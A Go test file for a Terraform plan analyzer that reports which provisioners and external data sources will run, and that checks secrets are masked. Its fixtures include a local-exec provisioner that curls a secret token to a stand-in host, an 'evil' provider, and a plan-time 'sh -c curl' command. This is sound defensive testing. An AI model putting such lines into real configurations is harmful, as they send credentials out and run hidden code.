package plan

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/plangate/plangate/internal/tftest"
)

// TestCodeRunsFromARealPlan plans, with real terraform, a stack whose
// resources carry provisioners (in a counted module too, one of them
// destroy-time, one computed from a variable) and checks what the plan
// file says runs: exactly the provisioners of the instances created or
// replaced, with their commands as written, secrets masked.
func TestCodeRunsFromARealPlan(t *testing.T) {
	bin := tftest.Find(t)
	env := terraformEnv(t)
	dir := t.TempDir()
	tf := func(args ...string) {
		t.Helper()
		cmd := exec.Command(bin, args...)
		cmd.Dir, cmd.Env = dir, env
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "terraform %v:\n%s", args, out)
	}
	write := func(name, src string) {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644))
	}
	const step1 = `
variable "token" {
  type      = string
  sensitive = true
  default   = "s3cr3t-token-value"
}
variable "rev" {
  type    = string
  default = "1"
}
resource "terraform_data" "keep" {
  input = "keep"
  provisioner "local-exec" {
    command = "echo kept"
  }
}
resource "terraform_data" "hook" {
  triggers_replace = [var.rev]
  provisioner "local-exec" {
    command = "echo deploy ${var.rev}"
  }
  provisioner "local-exec" {
    when    = destroy
    command = "echo bye"
  }
}
`
	write("main.tf", step1)
	tf("init", "-input=false")
	tf("apply", "-auto-approve", "-input=false")

	write("main.tf", step1+`
resource "terraform_data" "leak" {
  provisioner "local-exec" {
    command     = "curl -H 'token: s3cr3t-token-value' https://example.invalid"
    interpreter = ["/bin/sh", "-c"]
  }
}
module "m" {
  source = "./mod"
  count  = 2
}
`)
	write("mod/main.tf", `
resource "terraform_data" "x" {
  provisioner "remote-exec" {
    inline = ["echo 1", "echo 2"]
  }
  provisioner "file" {
    content     = "x"
    destination = "/tmp/x"
  }
}
`)
	tf("init", "-input=false")
	tf("plan", "-out=tfplan", "-input=false", "-var", "rev=2")
	cmd := exec.Command(bin, "show", "-json", "tfplan")
	cmd.Dir, cmd.Env = dir, env
	raw, err := cmd.Output()
	require.NoError(t, err)

	a, err := AnalyzeBytes(raw)
	require.NoError(t, err)
	assert.Equal(t, []string{"terraform.io/builtin/terraform"}, a.Providers)
	require.NoError(t, a.ReadCodeSource(filepath.Join(dir, "tfplan")))

	var got []string
	for _, c := range a.Code {
		got = append(got, c.String())
	}
	assert.Equal(t, []string{
		`module.m[0].terraform_data.x remote-exec: echo 1; echo 2 (at apply)`,
		`module.m[0].terraform_data.x file: content = x, destination = /tmp/x (at apply)`,
		`module.m[1].terraform_data.x remote-exec: echo 1; echo 2 (at apply)`,
		`module.m[1].terraform_data.x file: content = x, destination = /tmp/x (at apply)`,
		`terraform_data.hook local-exec: "echo deploy ${var.rev}" (at apply)`,
		`terraform_data.hook local-exec: echo bye (when = destroy) (at apply)`,
		`terraform_data.leak local-exec: curl -H 'token: (sensitive value)' https://example.invalid, interpreter = /bin/sh -c (at apply)`,
	}, got, "terraform_data.keep is unchanged: its provisioner does not run")
	for _, c := range a.Code {
		assert.NotContains(t, c.Detail, "s3cr3t-token-value")
	}
}

// TestCodeRunsFromPlanJSON covers what an offline test cannot plan for
// real (the external provider cannot be installed here): external data
// sources read while planning and at apply, and a provider's source, as
// Terraform writes them in the plan JSON (hand-written from its format).
func TestCodeRunsFromPlanJSON(t *testing.T) {
	raw := `{"format_version":"1.2","terraform_version":"1.11.0",
"resource_changes":[
 {"address":"module.net[\"a.b\"].data.external.late[0]","module_address":"module.net[\"a.b\"]","mode":"data","type":"external","name":"late","index":0,
  "change":{"actions":["read"],"before":null,"after":{},"after_unknown":{},"before_sensitive":false,"after_sensitive":{}}}],
"configuration":{"provider_config":{"external":{"name":"external","full_name":"registry.terraform.io/hashicorp/external"},
  "evil":{"name":"evil","full_name":"registry.example.com/evil/evil"}},
 "root_module":{"resources":[
   {"address":"data.external.ip","mode":"data","type":"external","name":"ip","provider_config_key":"external",
    "expressions":{"program":{"constant_value":["sh","-c","curl ifconfig.me"]}}},
   {"address":"data.other.thing","mode":"data","type":"other","name":"thing","provider_config_key":"external",
    "expressions":{"program":{"references":["var.prog"]}}}],
  "module_calls":{"net":{"source":"./net","module":{"resources":[
   {"address":"data.external.late","mode":"data","type":"external","name":"late","provider_config_key":"net:external",
    "expressions":{"program":{"references":["terraform_data.x.output"]}}}]}}}}}}`
	a, err := AnalyzeBytes([]byte(raw))
	require.NoError(t, err)
	assert.Equal(t, []string{"registry.example.com/evil/evil", "registry.terraform.io/hashicorp/external"}, a.Providers)
	var got []string
	for _, c := range a.Code {
		got = append(got, c.String())
	}
	assert.Equal(t, []string{
		`data.external.ip external: sh -c curl ifconfig.me (at plan)`,
		`data.other.thing external: (computed from var.prog) (at plan)`,
		`module.net["a.b"].data.external.late[0] external: (computed from terraform_data.x.output) (at apply)`,
	}, got)
}

func TestModuleConfigPath(t *testing.T) {
	for in, want := range map[string]string{
		"":                               "",
		"module.a":                       "module.a",
		"module.a[0]":                    "module.a",
		`module.a["x]y"].module.b[1]`:    "module.a.module.b",
		`module.a["q\"]"].module.b["k"]`: "module.a.module.b",
		`module.a["[nested]"]`:           "module.a",
	} {
		assert.Equal(t, want, moduleConfigPath(in), in)
	}
	assert.True(t, strings.HasPrefix(moduleConfigPath("module.a[0].module.b"), "module.a."))
}
